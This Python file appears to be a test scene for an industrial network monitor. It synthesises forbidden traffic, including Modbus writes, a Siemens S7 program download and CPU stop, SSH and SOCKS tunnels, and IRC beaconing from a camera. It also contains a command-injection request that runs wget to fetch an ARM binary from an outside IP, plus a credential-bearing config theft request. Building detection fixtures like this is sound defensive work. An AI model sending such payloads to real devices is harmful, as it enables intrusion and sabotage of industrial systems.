"""Who talks to whom though it should not: controllers on the Internet, offices at controllers, tunnels."""

from __future__ import annotations

from sentinel.demo.cast import CAMERA
from sentinel.demo.scenes.s7 import OB1, Session
from tests.craft.plant import (
    CONTROL,
    HMI,
    JUMP,
    MINUTE,
    MODICON,
    OFFICE,
    OUTSIDE,
    S7,
    SCADA,
    SECOND,
    Modbus,
    Plant,
    Scene,
    polling,
    sweep,
    web,
)  # fmt: skip


def play(wire: Plant) -> None:
    """An hour and a half, one thing after the other."""
    polling(wire, 0, 95 * MINUTE, MINUTE)
    for n in range(24):
        web(wire, (2 + n * 2) * MINUTE, HMI, OUTSIDE, "/gate.php", host="telemetry.example.net")
    inbound = Modbus(wire, 50 * MINUTE, CONTROL)
    inbound.read()
    inbound.write(200, 1)
    inbound.tcp.close()
    office = Modbus(wire, 52 * MINUTE, OFFICE)
    office.read()
    office.write(200, 1)
    office.tcp.close()
    load = Session(wire, 54 * MINUTE, OFFICE, S7)
    load.identify(S7)
    load.download(OB1)
    load.stop()
    load.job(b"\x28\0\0\0\0\0\0\xfd\0\0\x09P_PROGRAM", b"\x28")
    load.tcp.close()
    shell = wire.tcp(56 * MINUTE, OFFICE, HMI, 22)
    shell.server(b"SSH-2.0-OpenSSH_9.6\r\n").client(b"SSH-2.0-OpenSSH_9.5\r\n").close()
    hidden = wire.tcp(57 * MINUTE, JUMP, HMI, 443)
    hidden.server(b"SSH-2.0-OpenSSH_9.6\r\n").client(b"SSH-2.0-OpenSSH_9.5\r\n").close()
    socks = wire.tcp(58 * MINUTE, HMI, JUMP, 1080)
    socks.client(b"\x05\x01\0").server(b"\x05\0").client(b"\x05\x01\0\x01\xb9\xdc\x65\x2f\x01\xbb")
    socks.server(b"\x05\0\0\x01\0\0\0\0\0\0").close()
    proxy = wire.tcp(59 * MINUTE, HMI, JUMP, 8080)
    proxy.client(b"CONNECT files.example.net:443 HTTP/1.1\r\nHost: files.example.net:443\r\n\r\n")
    proxy.server(b"HTTP/1.1 200 Connection established\r\n\r\n").close()
    mail = wire.tcp(60 * MINUTE, HMI, OUTSIDE, 25)
    mail.server(b"220 mx.example.net ESMTP Postfix\r\n").client(b"EHLO hmi\r\n").server(
        b"250 mx.example.net\r\n"
    )
    mail.client(b"QUIT\r\n").server(b"221 2.0.0 Bye\r\n").close()
    chat = wire.tcp(62 * MINUTE, CAMERA, CONTROL, 6667)
    chat.client(b"NICK cam17\r\nUSER cam17 0 * :cam17\r\n").server(b":irc.example.net 001 cam17 :Welcome\r\n")
    chat.client(b"JOIN #cams\r\n").server(b":cam17!c@x JOIN #cams\r\n").close()
    share = wire.tcp(64 * MINUTE, SCADA, MODICON, 445)
    dialects = b"\x02NT LM 0.12\0\x02SMB 2.002\0"
    message = (
        b"\xffSMB\x72\0\0\0\0\x18\x53\xc8"
        + bytes(20)
        + b"\0"
        + len(dialects).to_bytes(2, "little")
        + dialects
    )
    share.client(len(message).to_bytes(4) + message).close()
    web(wire, 66 * MINUTE, OUTSIDE, CAMERA, "/shell?cd%20/tmp;wget%20http://185.220.101.47/bins/arm7")
    web(wire, 67 * MINUTE, OUTSIDE, CAMERA, "/System/configurationFile?auth=YWRtaW46MTEK")
    for n in range(4):
        sweep(wire, (68 + n) * MINUTE, SCADA, "91.200.12", 443, 3)
    upload = wire.tcp(74 * MINUTE, SCADA, CONTROL, 8_443)
    for _ in range(360):
        upload.client(bytes(60_000), 40)
    upload.close()
    acs = wire.tcp(80 * MINUTE, OUTSIDE, CAMERA, 7_547)
    acs.client(b"GET / HTTP/1.1\r\nHost: camera\r\n\r\n").server(
        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
    ).close()
    assert acs.now + SECOND < 95 * MINUTE


SCENE = Scene(play)
